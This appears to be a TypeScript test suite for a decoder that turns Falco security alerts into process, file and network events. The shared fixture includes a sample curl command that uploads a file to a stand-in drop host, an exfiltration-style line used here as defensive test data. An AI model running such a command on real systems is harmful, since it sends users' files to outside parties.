import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { WatchEvent } from '../../events/event.ts';
import { ID_UNSET, TTY_UNKNOWN } from '../../events/host-events.ts';
import { readRecords } from '../json-lines/replay.test-support.ts';

const decode = (...records: unknown[]) => readRecords('falco', records);
const kinds = (...records: unknown[]) => decode(...records).events.map(event => event.kind);
const only = <K extends WatchEvent['kind']>(kind: K, ...records: unknown[]): WatchEvent & { kind: K } => {
  const found = decode(...records).events.filter(event => event.kind === kind);
  assert.equal(found.length, 1, kind);
  return found[0] as WatchEvent & { kind: K };
};
const BASE = {
  'evt.time': 1795253830123456800,
  'proc.pid': 410,
  'proc.ppid': 400,
  'proc.name': 'curl',
  'proc.exepath': '/usr/bin/curl',
  'proc.cmdline': 'curl -T my file.tgz http://drop.example.net/',
  'proc.cwd': '/home/clerk/',
  'proc.tty': 34819,
  'proc.pid.ts': 1795253830000000000,
  'user.uid': 1003,
  'user.loginuid': 1003,
  'user.name': 'clerk',
};
const alert = (fields: object, more: object = {}) => ({
  hostname: 'ws3',
  output: '09:37:10.123456789: Notice something',
  output_fields: { ...BASE, ...fields },
  priority: 'Notice',
  rule: 'Odd thing',
  source: 'syscall',
  tags: ['process'],
  time: '2026-11-21T09:37:10.123456789Z',
  ...more,
});

test('an execution: the rule as context, the process with its joined arguments and its terminal', () => {
  const record = alert({ 'evt.type': 'execve', 'evt.res': 'SUCCESS' });
  assert.deepEqual(kinds(record), ['process.started', 'sensor.alert']);
  const started = only('process.started', record);
  assert.deepEqual([started.time, started.host, started.userName], [1795253830123.456, 'ws3', 'clerk']);
  assert.deepEqual(started.argv, ['curl', '-T', 'my', 'file.tgz', 'http://drop.example.net/']);
  assert.equal(started.argvJoined, true);
  assert.deepEqual(started.actor, {
    pid: 410,
    ppid: 400,
    uid: 1003,
    euid: 1003,
    auid: 1003,
    ses: -1,
    tty: 'pts3',
    comm: 'curl',
    exe: '/usr/bin/curl',
  });
  const judged = only('sensor.alert', record);
  assert.deepEqual([judged.signature, judged.category, judged.destinationPort], ['Odd thing', 'Falco Notice', -1]);
});

test('what the output leaves out is unknown: pids, terminal, login', () => {
  const plain = {
    'proc.pid': null,
    'proc.ppid': undefined,
    'proc.tty': undefined,
    'user.loginuid': -1,
    'evt.type': 'execve',
  };
  const started = only('process.started', alert(plain));
  assert.deepEqual(
    [started.actor.pid, started.actor.ppid, started.actor.tty, started.actor.auid],
    [-1, -1, TTY_UNKNOWN, ID_UNSET],
  );
  assert.deepEqual(kinds(alert({ 'evt.type': undefined })), ['process.listed', 'sensor.alert']);
  assert.deepEqual(kinds(alert({}, { source: 'k8s_audit' })), ['sensor.alert']);
  assert.deepEqual(kinds({ ...alert({}), output_fields: undefined }), ['sensor.alert'], 'without output fields');
});

test('two rules that tell of one call tell it once', () => {
  const fields = { 'evt.type': 'openat', 'fd.name': '/home/clerk/x', 'evt.arg.flags': 'O_RDONLY|O_CLOEXEC' };
  const told = kinds(alert(fields), alert(fields, { rule: 'Another rule' }));
  assert.deepEqual(told, ['process.listed', 'file.opened', 'sensor.alert', 'sensor.alert']);
  const threads = kinds(alert(fields), alert({ ...fields, 'proc.name': 'Cache2 I/O' }));
  assert.equal(
    threads.filter(kind => kind === 'file.opened').length,
    2,
    'two threads that open one file are two calls',
  );
});

test('files: flags by name, renames, modes; a call that failed is only an alert', () => {
  const open = (flags: string, more: object = {}) =>
    only('file.opened', alert({ 'evt.type': 'openat', 'fd.name': '/tmp/x', 'evt.arg.flags': flags, ...more }));
  const made = open('O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED');
  assert.deepEqual([made.access, made.created, made.truncated], ['write', true, true]);
  assert.deepEqual([open('O_CREAT|O_WRONLY').created, open('O_RDWR').access], [false, 'readwrite']);
  assert.equal(open('', { 'evt.is_open_write': true }).access, 'write');
  const moved = only(
    'file.renamed',
    alert({ 'evt.type': 'renameat', 'fs.path.source': '/tmp/a', 'fs.path.target': '/tmp/b' }),
  );
  assert.deepEqual([moved.from.path, moved.to.path], ['/tmp/a', '/tmp/b']);
  const near = only('file.deleted', alert({ 'evt.type': 'unlinkat', 'evt.arg.name': 'x' }));
  assert.equal(near.file.path, '/home/clerk/x');
  const mode = (text: string) =>
    only('file.mode-changed', alert({ 'evt.type': 'chmod', 'fs.path.name': '/tmp/x', 'evt.arg.mode': text })).mode;
  assert.deepEqual([mode('0755'), mode('S_IXUSR|S_IRUSR'), mode('strange')], [0o755, 0o500, -1]);
  assert.equal(
    kinds(alert({ 'evt.type': 'openat', 'fd.name': '/tmp/x', 'evt.res': 'EACCES' })).includes('file.opened'),
    false,
  );
});

test('connections: by the fields, else by the name of the descriptor', () => {
  const fields = { 'evt.type': 'connect', 'fd.name': '192.0.2.7:50000->203.0.113.7:443', 'evt.res': 'EINPROGRESS' };
  const named = only('network.connected', alert(fields));
  assert.deepEqual([named.address, named.port, named.outcome], ['203.0.113.7', 443, 'in-progress']);
  const six = only(
    'network.connected',
    alert({ ...fields, 'fd.name': null, 'fd.sip': '2001:db8::7', 'fd.sport': 25, 'evt.res': 'ECONNREFUSED' }),
  );
  assert.deepEqual([six.address, six.port, six.outcome], ['2001:db8::7', 25, 'failed']);
});

test('hostile values become unknown ones, and nothing throws', () => {
  for (const bad of [null, 7, '', [], {}, [[{}]], '\u0000', 'x'.repeat(100_000)])
    for (const key of Object.keys({ ...BASE, 'evt.type': 0, 'fd.name': 0, 'evt.arg.flags': 0 }))
      for (const call of ['execve', 'openat', 'connect', 'chmod'])
        decode(alert({ 'evt.type': call, 'fd.name': '/x', [key]: bad }));
  assert.deepEqual(decode(alert({}, { time: 'soon', output_fields: {} })).verdicts, ['reject']);
  assert.deepEqual(decode(alert({}, { rule: '' })).verdicts, ['reject']);
});
